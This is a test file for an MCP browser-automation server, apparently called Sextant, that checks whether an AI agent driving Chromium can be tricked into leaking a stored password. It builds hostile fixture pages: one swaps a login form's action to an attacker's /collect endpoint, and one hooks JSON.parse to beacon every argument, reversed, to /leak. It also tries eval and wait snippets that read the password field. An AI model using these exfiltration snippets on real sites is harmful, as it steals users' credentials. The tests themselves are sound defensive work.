import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import {
  type AttackerOrigin,
  FIXTURE_USERS,
  type FixtureSite,
  startAttackerOrigin,
  startFixtureSite,
} from "@sextant/fixture-site"
import { secretForms } from "@sextant/memory"
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest"
import { type HttpMcpServer, type ServerOptionsInput, serveHttp } from "../src/index.ts"
import { connectClient, textOf } from "./support/HttpClient.ts"

/**
 * An MCP client (the SDK's, over HTTP with the token) driving real headless Chromium onto pages that
 * try to take the password to another origin. The attacker origin logs every request; whatever the
 * client asks, it never receives the password, and each refusal says which flag would allow it.
 */

const user = FIXTURE_USERS[0]!
const PASSWORD = user.password

let site: FixtureSite
let attacker: AttackerOrigin
/** A page on its own origin whose sign-in form points at the attacker once something is typed into it. */
let switching: { url: string; server: Server }
const servers: Array<HttpMcpServer> = []

beforeAll(async () => {
  site = await startFixtureSite({ port: 0, seed: 3 })
  attacker = await startAttackerOrigin()
  const page = (
    to: string,
  ) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form method="post" action="/signed-in" aria-label="Sign in">
<label for="email">Email</label><input type="email" name="email" id="email">
<label for="password">Password</label><input type="password" name="password" id="password">
<p><button type="submit" id="login-btn">Sign in</button></p>
</form>
<script>
// Harmless while the agent looks; once a password is in, the form posts elsewhere.
document.querySelector("#password").addEventListener("input", () => {
  document.querySelector("form").action = ${JSON.stringify(`${to}/collect`)}
})
</script></body></html>`
  // A page on any origin that reads every argument Sextant's page script is handed (through JSON.parse)
  // and sends it on, reversed so that no guard reads it as the secret.
  const spy = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Pick</title></head><body>
<h1>Pick a colour</h1>
<label for="colour">Colour</label><select id="colour"><option>Red</option><option>Blue</option></select>
<script>
const parse = JSON.parse
JSON.parse = function (text, ...rest) {
  navigator.sendBeacon(${JSON.stringify(`${attacker.url}/leak`)}, String(text).split("").reverse().join(""))
  return parse.call(this, text, ...rest)
}
</script></body></html>`
  const server = createServer((request, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
    response.end(
      request.url === "/signed-in" ? "<p>Signed in</p>" : request.url === "/spy" ? spy : page(attacker.url),
    )
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()))
  switching = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
}, 60_000)

afterAll(async () => {
  await Promise.all(servers.map((server) => server.close()))
  await attacker?.close()
  await site?.close()
  switching?.server.closeAllConnections()
  await new Promise<void>((resolve) => (switching ? switching.server.close(() => resolve()) : resolve()))
})

// Each test's servers close when it ends, giving the worker's shared Chromium back for the next one.
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()))
})

/**
 * A server with these options and the password as its only secret, and an SDK client connected to it.
 * Its session takes the worker's shared Chromium (`shareBrowser`) unless the options say otherwise.
 */
const connect = async (options: ServerOptionsInput, http: { idleTimeoutMs?: number } = {}) => {
  const server = await serveHttp(
    { secrets: ["password"], secretValues: { password: PASSWORD }, shareBrowser: true, ...options },
    http,
  )
  servers.push(server)
  const { client, transport, call, refOf } = await connectClient(server)
  return { server, client, transport, call, refOf }
}

/** Whether any request the attacker received from `since` on holds the password in any spelling. */
const leakedSince = (since: number): boolean =>
  attacker.requests
    .slice(since)
    .some((request) => secretForms(PASSWORD).some((form) => JSON.stringify(request).includes(form)))

// A post the page makes to the attacker (127.0.0.1) lands within milliseconds of the call that caused it.
const settle = () => new Promise((resolve) => setTimeout(resolve, 200))

describe("act types a secret only where the secrets are bound", () => {
  it("refuses <secret:password> in a form that posts to another origin, and Enter sends nothing there", async () => {
    const { call, refOf } = await connect({
      constraints: { allowedOrigins: [site.url, attacker.url], allowFormSubmission: true },
      secretOrigins: [site.url],
    })
    const since = attacker.requests.length
    const opened = await call("go", {
      url: `${site.url}/hostile/offsite-form?to=${encodeURIComponent(attacker.url)}`,
    })
    expect(opened.isError).toBeUndefined()
    const email = await refOf(/^e\d+ textbox Email/)
    const password = await refOf(/^e\d+ textbox Password/)
    expect((await call("act", { ref: email, op: "input", value: user.email })).isError).toBeUndefined()
    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
    expect(typed.isError).toBe(true)
    expect(textOf(typed)).toContain(`where the field's form action is ${attacker.url}`)
    expect(textOf(typed)).toContain("--secret-origin")
    await call("act", { ref: password, op: "press", value: "Enter" })
    await settle()
    expect(leakedSince(since)).toBe(false)
    expect(textOf(typed)).not.toContain(PASSWORD)
  }, 60_000)

  it("refuses Enter and the submit button in a form that points at another origin once the secret is in it", async () => {
    const { call, refOf } = await connect({
      constraints: { allowFormSubmission: true },
      secretOrigins: [switching.url],
    })
    const since = attacker.requests.length
    await call("go", { url: `${switching.url}/` })
    const password = await refOf(/^e\d+ textbox Password/)
    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
    expect(typed.isError).toBeUndefined()
    const entered = await call("act", { ref: password, op: "press", value: "Enter" })
    await settle()
    expect(leakedSince(since)).toBe(false)
    expect(textOf(entered)).toContain(`${password} sends what is typed to ${attacker.url}`)
    expect(entered.isError).toBe(true)
    const signIn = await refOf(/^e\d+ button Sign in/)
    const clicked = await call("act", { ref: signIn, op: "click" })
    expect(clicked.isError).toBe(true)
    expect(textOf(clicked)).toContain(attacker.url)
    await settle()
    expect(leakedSince(since)).toBe(false)
  }, 60_000)

  it("refuses <secret:password> in any op but input (a select's option, a text to select), so the page's script never sees it", async () => {
    const { call, refOf } = await connect({
      constraints: { allowedOrigins: [switching.url, attacker.url] },
      secretOrigins: [site.url],
    })
    const since = attacker.requests.length
    await call("go", { url: `${switching.url}/spy` })
    const colour = await refOf(/^e\d+ combobox Colour/)
    for (const [op, value] of [
      ["select", "<secret:password>"],
      ["select", ["Red", "<secret:password>"]],
      ["selectText", "<secret:password>"],
    ] as const) {
      const answer = await call("act", { ref: colour, op, value })
      expect(answer.isError, `${op} ${JSON.stringify(value)}`).toBe(true)
      expect(textOf(answer)).toContain(`op "${op}" does not take one`)
    }
    await settle()
    const reversed = [...PASSWORD].reverse().join("")
    expect(attacker.requests.slice(since).some((request) => JSON.stringify(request).includes(reversed))).toBe(
      false,
    )
    expect(leakedSince(since)).toBe(false)
  }, 60_000)

  it("refuses a secret when no origin binds it, naming the flags", async () => {
    const { call, refOf } = await connect({ constraints: { allowFormSubmission: true } })
    await call("go", { url: `${site.url}/login` })
    const password = await refOf(/^e\d+ textbox Password/)
    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
    expect(typed.isError).toBe(true)
    expect(textOf(typed)).toContain("secrets are bound to no origin")
    expect(textOf(typed)).toContain("--secret-origin")
    expect(textOf(typed)).toContain("--allowed-origin")
  }, 60_000)
})

describe("a session with secrets runs no JavaScript of the client's", () => {
  const reversed = [...PASSWORD].reverse().join("")

  it("refuses eval and a JavaScript wait, so a typed password never comes back reversed or as char codes", async () => {
    const { call, refOf } = await connect({
      constraints: { allowedOrigins: [site.url], allowFormSubmission: true },
      allowEval: true,
    })
    await call("go", { url: `${site.url}/login` })
    // A listener left before the password is typed would echo it as it goes in.
    const hooked = await call("wait", {
      for: `(document.querySelector("input[type=password]").addEventListener("input", (event) => { document.querySelector("h1").textContent = "R:" + [...event.target.value].reverse().join("") }), true)`,
      ms: 1000,
    })
    expect(hooked.isError).toBe(true)
    expect(textOf(hooked)).toContain("this session holds <secret:password>")
    const password = await refOf(/^e\d+ textbox Password/)
    expect(
      (await call("act", { ref: password, op: "input", value: "<secret:password>" })).isError,
    ).toBeUndefined()
    const read = `[...document.querySelector("input[type=password]").value].reverse().join("")`
    const written = await call("wait", {
      for: `(document.querySelector("h1").textContent = "R:" + ${read}, true)`,
      ms: 1000,
    })
    expect(written.isError).toBe(true)
    const evaluated = await call("eval", { js: read })
    expect(evaluated.isError).toBe(true)
    expect(textOf(evaluated)).toContain("eval was not run")
    const codes = await call("eval", {
      js: `[...document.querySelector("input[type=password]").value].map((c) => c.charCodeAt(0))`,
    })
    expect(codes.isError).toBe(true)
    const look = await call("look", { mode: "full" })
    for (const answer of [hooked, written, evaluated, codes, look]) {
      expect(textOf(answer)).not.toContain(reversed)
      expect(textOf(answer)).not.toContain([...PASSWORD].map((c) => c.charCodeAt(0)).join(","))
    }
    expect(textOf(look)).toContain('h1 "Sign in"')
    // Waiting on an element still works.
    const selector = await call("wait", { for: "main h1", ms: 1000 })
    expect(selector.isError).toBeUndefined()
    expect(textOf(selector)).toContain("held after")
  }, 60_000)
})

describe("the request guard stops what the page sends after the secret is typed", () => {
  /** Types the password on a same-origin login form of `path`, then submits it with `submit`. */
  const typeAndSubmit = async (path: string, submit: "click" | "Enter") => {
    const { call, refOf } = await connect({
      constraints: { allowedOrigins: [site.url, attacker.url], allowFormSubmission: true },
      secretOrigins: [site.url],
    })
    const since = attacker.requests.length
    await call("go", { url: `${site.url}${path}?to=${encodeURIComponent(attacker.url)}` })
    const email = await refOf(/^e\d+ textbox Email/)
    const password = await refOf(/^e\d+ textbox Password/)
    expect((await call("act", { ref: email, op: "input", value: user.email })).isError).toBeUndefined()
    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
    expect(typed.isError).toBeUndefined()
    const sent =
      submit === "click"
        ? await call("act", { ref: await refOf(/^e\d+ button Sign in/), op: "click" })
        : await call("act", { ref: password, op: "press", value: "Enter" })
    await settle()
    return { call, refOf, since, sent, password }
  }

  it("blocks the post a submit handler swaps to another origin, says so, and never types the secret again", async () => {
    const { call, refOf, since, sent } = await typeAndSubmit("/hostile/swap-action", "click")
    expect(leakedSince(since)).toBe(false)
    expect(sent.isError).toBe(true)
    expect(textOf(sent)).toContain(
      `request to ${attacker.url} carrying <secret:password> in its body was blocked`,
    )
    expect(textOf(sent)).toContain("start a new MCP session")
    expect(textOf(sent)).not.toContain(PASSWORD)
    // The session types that secret no more, even on the site's own login page.
    await call("go", { url: `${site.url}/login` })
    const password = await refOf(/^e\d+ textbox Password/)
    const again = await call("act", { ref: password, op: "input", value: "<secret:password>" })
    expect(again.isError).toBe(true)
    expect(textOf(again)).toContain("<secret:password> was not typed")
    expect(textOf(again)).toContain("start a new MCP session")
    await settle()
    expect(leakedSince(since)).toBe(false)
  }, 60_000)

  it("blocks the hop of a 307 that sends the posted password on to another origin, and says so", async () => {
    const { since, sent } = await typeAndSubmit("/hostile/redirect-post", "Enter")
    expect(leakedSince(since)).toBe(false)
    expect(sent.isError).toBe(true)
    expect(textOf(sent)).toContain(
      `request to ${attacker.url} (a redirect from ${site.url}) carrying <secret:password>`,
    )
    expect(textOf(sent)).toContain("was blocked before it left the browser")
    expect(textOf(sent)).not.toContain(PASSWORD)
  }, 60_000)

  it("says once that requests are not guarded when the browser cannot guard them", async () => {
    const { call } = await connect({
      constraints: { allowedOrigins: [site.url] },
      browser: { bidi: true },
    })
    const first = await call("go", { url: `${site.url}/login` })
    expect(textOf(first)).toContain("requests are not guarded")
    const second = await call("go", { url: `${site.url}/` })
    expect(textOf(second)).not.toContain("requests are not guarded")
  }, 60_000)
})

describe("run", () => {
  it("does not bind the secret to the origin of the URL it is given", async () => {
    const { call } = await connect({
      constraints: { allowFormSubmission: true },
      secretOrigins: [site.url],
    })
    const since = attacker.requests.length
    const ran = await call("run", {
      goal: `log in as ${user.email} with password <secret:password>`,
      url: `${attacker.url}/login`,
    })
    await settle()
    expect(leakedSince(since)).toBe(false)
    expect(ran.isError).toBe(true)
    expect(textOf(ran)).not.toMatch(/^COMPLETED/)
    expect(textOf(ran)).toContain(`which is not an origin the secrets are bound to (${site.url})`)
  }, 90_000)

  it("counts against the session's quotas, which it cannot start afresh", async () => {
    const { call } = await connect({
      constraints: { allowedOrigins: [site.url], quotas: { navigations: 2 } },
    })
    expect((await call("go", { url: `${site.url}/` })).isError).toBeUndefined()
    // The run may use what is left (one navigation) and that is charged to the session.
    const first = await call("run", { goal: `go to ${site.url}/products` })
    expect(textOf(first)).toMatch(/^COMPLETED/)
    const after = await call("go", { url: `${site.url}/login` })
    expect(after.isError).toBe(true)
    expect(textOf(after)).toContain("the navigation quota of 2 is used up")
    // A second run gets none back.
    const second = await call("run", { goal: `go to ${site.url}/login` })
    expect(textOf(second)).not.toMatch(/^COMPLETED/)
    expect(textOf(second)).toContain("navigation quota of 0 is used up")
  }, 90_000)
})

describe("an idle session", () => {
  it("ends after the idle timeout and closes its browser", async () => {
    // A browser of its own: the test proves the session's processes end with it.
    const { server, call, transport } = await connect(
      { constraints: { allowedOrigins: [site.url] }, shareBrowser: false },
      { idleTimeoutMs: 500 },
    )
    expect((await call("go", { url: `${site.url}/` })).isError).toBeUndefined()
    const processes = server.browserProcesses()
    expect(processes.length).toBeGreaterThan(0)
    expect(server.clients()).toBe(1)
    const alive = (pid: number) => {
      try {
        process.kill(pid, 0)
        return true
      } catch {
        return false
      }
    }
    expect(processes.every(alive)).toBe(true)
    const deadline = Date.now() + 15_000
    while ((server.clients() > 0 || processes.some(alive)) && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    expect(server.clients()).toBe(0)
    expect(server.browserProcesses()).toEqual([])
    expect(processes.filter(alive)).toEqual([])
    const response = await fetch(server.url, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        accept: "application/json, text/event-stream",
        authorization: `Bearer ${server.token}`,
        "mcp-session-id": transport.sessionId!,
      },
      body: JSON.stringify({ jsonrpc: "2.0", id: 9, method: "tools/list", params: {} }),
    })
    expect(response.status).toBe(404)
  }, 60_000)
})
